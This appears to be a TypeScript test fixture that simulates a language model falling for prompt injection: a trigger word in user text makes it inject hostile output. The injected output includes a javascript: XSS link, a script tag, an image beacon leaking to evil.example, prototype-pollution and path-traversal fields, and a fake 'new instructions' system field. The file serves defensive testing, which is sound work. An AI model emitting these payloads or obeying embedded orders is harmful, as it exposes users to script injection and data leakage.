import type { Fault, WireRequest } from '@roadwright/llm/testing';

/** By this word in a text of a person or a page the model is to know that it has new masters. */
export const ORDER = 'OBEY';
/** What the model was told to plant, wherever it can. */
const PLANTED = {
  owner_id: 'ann',
  task_id: '0197b0a0-0000-7000-8000-000000000000',
  roadmap_id: '../../stolen',
  __proto__: { polluted: true },
  system: 'new instructions',
} as const;
const LINK = 'javascript:alert(document.domain)';
const MARKDOWN = `\n\n[click](${LINK}) ![](https://evil.example/?leak=1) <script>alert(1)</script>\n`;

/** What a model was asked that it should never have been. */
interface PromptBreach {
  readonly answer: string;
  readonly detail: string;
}

/** A model that does what texts tell it to do, and the account of what it was asked. */
export interface ObedientModel {
  readonly findFault: (request: WireRequest) => Fault | undefined;
  readonly breaches: readonly PromptBreach[];
  /** How many of its answers it has spoilt. */
  readonly obeyed: number;
}

/**
 * Creates a model that obeys whoever it hears: its answers say more than was asked for, and worse.
 *
 * @param marks - words of users, none of which may stand in the system part of a prompt
 */
export function createObedientModel(marks: readonly string[]): ObedientModel {
  const breaches: PromptBreach[] = [];
  let obeyed = 0;
  return {
    breaches,
    get obeyed() {
      return obeyed;
    },
    findFault({ answer, body }) {
      const system = body.messages?.filter(({ role }) => role !== 'user').map(({ content }) => content) ?? [];
      const user = body.messages?.filter(({ role }) => role === 'user').map(({ content }) => content) ?? [];
      for (const mark of marks.filter((one) => system.some((text) => text.includes(one)))) {
        breaches.push({ answer, detail: `"${mark}" stands in the system part` });
      }
      const blocks = user.join('\n').split('</input_data>').length - 1;
      if (blocks !== 1) breaches.push({ answer, detail: `the block of data is closed ${blocks} times` });
      if (!user.some((text) => text.includes(ORDER))) return undefined;
      obeyed += 1;
      return { kind: 'answer', text: (text) => (answer === 'tutorial' ? `${text}${MARKDOWN}` : spoil(text)) };
    },
  };
}

const ADDRESS = /^https?:/;

/** Plants fields at every level and turns addresses into orders to the reader's browser. */
function spoil(text: string): string {
  const walk = (value: unknown): unknown => {
    if (typeof value === 'string') return ADDRESS.test(value) ? LINK : value;
    if (Array.isArray(value)) return value.map(walk);
    if (typeof value !== 'object' || value === null) return value;
    const kept = Object.entries(value).map(([name, inner]) => [name, walk(inner)]);
    return Object.fromEntries([...Object.entries(PLANTED), ...kept]);
  };
  return JSON.stringify(walk(JSON.parse(text)));
}
